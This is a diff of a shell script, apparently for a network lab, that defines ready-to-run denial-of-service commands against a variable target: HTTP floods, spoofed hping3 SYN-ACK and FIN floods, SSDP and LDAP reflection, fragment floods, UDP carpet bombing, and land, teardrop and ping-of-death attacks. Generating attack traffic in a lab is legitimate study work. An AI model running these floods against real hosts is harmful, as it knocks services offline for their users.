@@ -23,6 +23,14 @@ tool siege_flood dos-flood a2 $WEB; siege_flood() { (cd "$LAB_DIR" && HOME=$LAB_
 tool hey_flood dos-flood a1 $WEB; hey_flood() { on 20 hey -n 4000 -c 50 -disable-keepalive http://$WEB/team.html; }
 tool httperf_flood dos-flood a1 $WEB; httperf_flood() { on 30 httperf --hog --server $WEB --uri /team.html --num-conn 3000 --rate 500 --timeout 3; }
 tool ab_tls_flood dos-flood a1 $WEB; ab_tls_flood() { on 30 ab -q -r -s 5 -n 2500 -c 30 https://$WEB/team.html; }
+tool goldeneye_flood dos-flood a3 $WEB; goldeneye_flood() { (cd "$LAB_DIR" && on 12 goldeneye http://$WEB/ -w 3 -s 25 -m random); }
+tool hping_fin dos-flood a1 $WEB; hping_fin() { on 20 hping3 -q -F -p 80 -c 5000 -i u1000 $WEB; }
+tool hping_synack dos-flood a2 $WEB -; hping_synack() { on 20 hping3 -q -S -A --rand-source -s 443 -p ++2000 -c 5000 -i u1000 $WEB; }
+tool ssdp_reflect dos-flood a1 $WEB -; ssdp_reflect() { on 20 python3 "$LAB_HOME/tools/reflect.py" $WEB 1900 600 5; }
+tool ldap_reflect dos-flood a1 $WEB -; ldap_reflect() { on 20 python3 "$LAB_HOME/tools/reflect.py" $WEB 389 600 5; }
+tool whole_fragments dos-flood a1 $WEB; whole_fragments() { on 20 hping3 -q --udp -f -m 400 -d 1200 -p 9999 -c 2500 -i u2500 $WEB; }
+tool data_flood dos-flood a1 $WEB; data_flood() { on 20 python3 "$LAB_HOME/tools/data_flood.py" $WEB 80 8; }
+tool carpet_udp dos-flood a1 10.20.0.0/24; carpet_udp() { on 20 python3 "$LAB_HOME/tools/carpet.py" 10.20.0 2000 6; }
 tool land_attack malformed a1 $WEB -; land_attack() { on 10 hping3 -q -S -a $WEB -s 80 -k -p 80 -c 200 -i u5000 $WEB; }
 tool teardrop malformed a1 $WEB; teardrop() { on 10 python3 "$LAB_HOME/tools/malformed.py" teardrop $WEB 40; }
 tool ping_of_death malformed a1 $WEB; ping_of_death() { on 10 python3 "$LAB_HOME/tools/malformed.py" death $WEB 5; }
